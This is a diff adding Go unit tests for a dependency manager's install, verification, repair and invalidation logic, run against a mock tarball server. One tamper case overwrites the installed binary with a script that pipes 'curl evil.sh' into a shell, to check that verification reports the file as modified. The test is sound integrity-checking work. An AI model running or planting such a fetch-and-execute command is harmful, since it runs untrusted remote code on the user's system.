@@ -0,0 +1,201 @@
+package deps
+
+import (
+	"context"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"dev-manager/internal/testutil/mockhttp"
+	"dev-manager/pkg/config"
+)
+
+func TestManager_VerifyAndRepair(t *testing.T) {
+	server := mockhttp.New(t, mockhttp.TarGz(t, mockhttp.Entry{Name: "bin/tool", Body: "#!/bin/sh\n", Mode: 0755}))
+
+	installed := config.Dependency{Name: "tool", Version: "1.0.0", Source: server.URLFor("tool.tar.gz")}
+
+	tests := []struct {
+		name          string
+		dep           config.Dependency
+		dropRecord    bool
+		wantStatus    Status
+		wantReinstall bool
+	}{
+		{
+			name:       "clean install",
+			dep:        installed,
+			wantStatus: StatusOK,
+		},
+		{
+			name:          "version drift",
+			dep:           config.Dependency{Name: "tool", Version: "2.0.0", Source: installed.Source},
+			wantStatus:    StatusDrifted,
+			wantReinstall: true,
+		},
+		{
+			name:          "missing install record",
+			dep:           installed,
+			dropRecord:    true,
+			wantStatus:    StatusDrifted,
+			wantReinstall: true,
+		},
+		{
+			name:          "not installed",
+			dep:           config.Dependency{Name: "other", Version: "1.0.0", Source: installed.Source},
+			wantStatus:    StatusMissing,
+			wantReinstall: true,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			mgr := New(t.TempDir())
+			if err := mgr.Install(installed, false); err != nil {
+				t.Fatalf("Manager.Install() error = %v", err)
+			}
+			if tt.dropRecord {
+				os.Remove(filepath.Join(mgr.InstallDir, installed.Name, MetadataFile))
+			}
+
+			before, _ := mgr.ReadMetadata(tt.dep)
+
+			v, err := mgr.Repair(context.Background(), tt.dep)
+			if err != nil {
+				t.Fatalf("Manager.Repair() error = %v", err)
+			}
+			if v.Status != tt.wantStatus {
+				t.Errorf("Status = %s, want %s", v.Status, tt.wantStatus)
+			}
+
+			after, err := mgr.ReadMetadata(tt.dep)
+			if err != nil {
+				t.Fatalf("ReadMetadata() after repair error = %v", err)
+			}
+			reinstalled := before == nil || !after.InstalledAt.Equal(before.InstalledAt)
+			if reinstalled != tt.wantReinstall {
+				t.Errorf("reinstalled = %v, want %v", reinstalled, tt.wantReinstall)
+			}
+
+			if v, _ := mgr.Verify(tt.dep); v.Status != StatusOK {
+				t.Errorf("Verify() after repair = %s (%s), want OK", v.Status, v.Detail)
+			}
+		})
+	}
+}
+
+func TestManager_VerifyFiles(t *testing.T) {
+	server := mockhttp.New(t, mockhttp.TarGz(t,
+		mockhttp.Entry{Name: "bin/tool", Body: "#!/bin/sh\n", Mode: 0755},
+		mockhttp.Entry{Name: "share/README", Body: "docs\n"},
+	))
+	dep := config.Dependency{Name: "tool", Version: "1.0.0", Source: server.URLFor("tool.tar.gz")}
+
+	tests := []struct {
+		name       string
+		tamper     func(t *testing.T, depPath string)
+		wantStatus Status
+		wantDetail string
+	}{
+		{
+			name:       "untouched",
+			tamper:     func(t *testing.T, depPath string) {},
+			wantStatus: StatusOK,
+		},
+		{
+			name: "binary removed",
+			tamper: func(t *testing.T, depPath string) {
+				if err := os.Remove(filepath.Join(depPath, "bin", "tool")); err != nil {
+					t.Fatal(err)
+				}
+			},
+			wantStatus: StatusIncomplete,
+		},
+		{
+			name: "binary replaced",
+			tamper: func(t *testing.T, depPath string) {
+				if err := os.WriteFile(filepath.Join(depPath, "bin", "tool"), []byte("#!/bin/sh\ncurl evil.sh | sh\n"), 0755); err != nil {
+					t.Fatal(err)
+				}
+			},
+			wantStatus: StatusModified,
+		},
+		{
+			name: "file added",
+			tamper: func(t *testing.T, depPath string) {
+				if err := os.WriteFile(filepath.Join(depPath, "bin", "extra"), []byte("x"), 0755); err != nil {
+					t.Fatal(err)
+				}
+			},
+			wantStatus: StatusOK,
+			wantDetail: "1 file added since the install: bin/extra",
+		},
+		{
+			name: "installed before manifests",
+			tamper: func(t *testing.T, depPath string) {
+				if err := os.Remove(filepath.Join(depPath, ManifestFile)); err != nil {
+					t.Fatal(err)
+				}
+			},
+			wantStatus: StatusOK,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			mgr := New(t.TempDir())
+			if err := mgr.Install(dep, false); err != nil {
+				t.Fatalf("Manager.Install() error = %v", err)
+			}
+			tt.tamper(t, filepath.Join(mgr.InstallDir, dep.Name))
+
+			v, err := mgr.Verify(dep)
+			if err != nil {
+				t.Fatalf("Manager.Verify() error = %v", err)
+			}
+			if v.Status != tt.wantStatus {
+				t.Errorf("Status = %s (%s), want %s", v.Status, v.Detail, tt.wantStatus)
+			}
+			if v.Status == StatusOK && v.Detail != tt.wantDetail {
+				t.Errorf("Detail = %q, want %q", v.Detail, tt.wantDetail)
+			}
+
+			if _, err := mgr.Repair(context.Background(), dep); err != nil {
+				t.Fatalf("Manager.Repair() error = %v", err)
+			}
+			if v, _ := mgr.Verify(dep); v.Status != StatusOK {
+				t.Errorf("Verify() after repair = %s (%s), want OK", v.Status, v.Detail)
+			}
+		})
+	}
+}
+
+func TestManager_Invalidate(t *testing.T) {
+	server := mockhttp.New(t, mockhttp.TarGz(t, mockhttp.Entry{Name: "bin/tool", Body: "#!/bin/sh\n", Mode: 0755}))
+	mgr := New(t.TempDir())
+	dep := config.Dependency{Name: "tool", Version: "1.0.0", Source: server.URLFor("tool.tar.gz")}
+
+	if mgr.NeedsReinstall(dep) {
+		t.Error("Manager.NeedsReinstall() = true before install")
+	}
+	if err := mgr.Install(dep, false); err != nil {
+		t.Fatalf("Manager.Install() error = %v", err)
+	}
+	if mgr.NeedsReinstall(dep) {
+		t.Error("Manager.NeedsReinstall() = true after install")
+	}
+
+	if err := mgr.Invalidate(dep); err != nil {
+		t.Fatalf("Manager.Invalidate() error = %v", err)
+	}
+	if !mgr.IsInstalled(dep) || !mgr.NeedsReinstall(dep) {
+		t.Error("invalidated dependency should stay installed but need a reinstall")
+	}
+
+	if err := mgr.Install(dep, true); err != nil {
+		t.Fatalf("Manager.Install(force) error = %v", err)
+	}
+	if mgr.NeedsReinstall(dep) {
+		t.Error("Manager.NeedsReinstall() = true after reinstall")
+	}
+}